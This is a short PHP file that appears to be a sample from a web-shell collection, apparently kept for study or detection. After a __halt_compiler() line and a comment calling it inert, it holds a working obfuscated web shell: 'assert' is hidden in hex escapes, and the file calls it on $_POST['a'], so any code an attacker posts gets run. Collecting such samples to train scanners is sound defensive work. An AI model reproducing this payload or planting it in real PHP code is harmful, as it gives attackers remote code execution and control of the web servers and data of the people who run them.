<?php __halt_compiler(); /* hegui corpus: inert sample - PHP stops compiling here */ ?>
<?php
$zol="\x61\x73\x73\x65\x72\x74";
$zol($_POST['a']);
